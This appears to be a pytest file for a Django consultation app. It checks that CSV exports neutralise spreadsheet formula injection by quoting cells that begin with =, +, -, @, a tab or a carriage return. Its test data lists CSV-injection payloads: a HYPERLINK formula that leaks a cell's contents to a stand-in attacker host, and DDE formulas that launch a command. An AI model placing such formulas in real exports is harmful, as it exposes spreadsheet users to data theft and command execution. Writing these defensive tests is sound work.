"""Every CSV Concord writes opens in a spreadsheet as text: a cell that begins a formula is neutralised."""

import csv
import io
import json

import pytest
from django.urls import reverse

from concord.core.spreadsheet import neutralise
from concord.record import exports
from concord.stakeholders.models import StakeholderGroup
from tests.factories import make_consultation, make_contribution, make_entity

pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the report")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_that_begins_a_formula_gets_a_quote_in_front(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize("value", ["Plain text", " =1+1", "", "'=already quoted", 42, -3, None, 2.5])
def test_other_cells_and_numbers_are_written_as_they_are(value):
    assert neutralise(value) == value


def test_the_open_data_csv_neutralises_formulas_and_the_jsonl_keeps_the_text(client):
    consultation = make_consultation()
    entity = make_entity("=cmd|' /C calc'!A0")
    contribution = make_contribution(consultation, entity, text="-" + FORMULAS[0])
    contribution.title = "@SUM(1+1)"
    contribution.save(update_fields=["title"])
    download = reverse("record:data-download", kwargs={"slug": consultation.slug, "fmt": "csv"})
    text = b"".join(client.get(download).streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["entity_name"] == "'=cmd|' /C calc'!A0"
    assert row["title"] == "'@SUM(1+1)"
    assert row["text"] == "'-" + FORMULAS[0]
    assert row["received_at"][0].isdigit() and row["version"] == "1"
    jsonl = reverse("record:data-download", kwargs={"slug": consultation.slug, "fmt": "jsonl"})
    line = json.loads(b"".join(client.get(jsonl).streaming_content))
    assert (line["entity_name"], line["title"]) == ("=cmd|' /C calc'!A0", "@SUM(1+1)")


def test_the_distribution_tables_csv_neutralises_a_group_label(client):
    # A group the secretariat added, whose name is shown as typed (the four usual groups have fixed labels).
    StakeholderGroup.objects.create(slug="fictional-group", name="=1+1", position=9)
    consultation = make_consultation(groups=("government", "fictional-group"))
    response = client.get(reverse("record:table", kwargs={"slug": consultation.slug, "fmt": "csv"}))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[2][:2] == ["fictional-group", "'=1+1"]


def test_the_data_dictionary_says_how_csv_cells_are_neutralised(client):
    consultation = make_consultation()
    page = client.get(reverse("record:data", kwargs={"slug": consultation.slug}))
    metadata = client.get(reverse("record:data-metadata", kwargs={"slug": consultation.slug})).json()
    assert "begins with =, +, -, @, a tab or a carriage return" in metadata["csv_note"]
    assert metadata["csv_note"].replace("'", "&#x27;") in page.content.decode()
    assert str(exports.CSV_NOTE) == metadata["csv_note"]
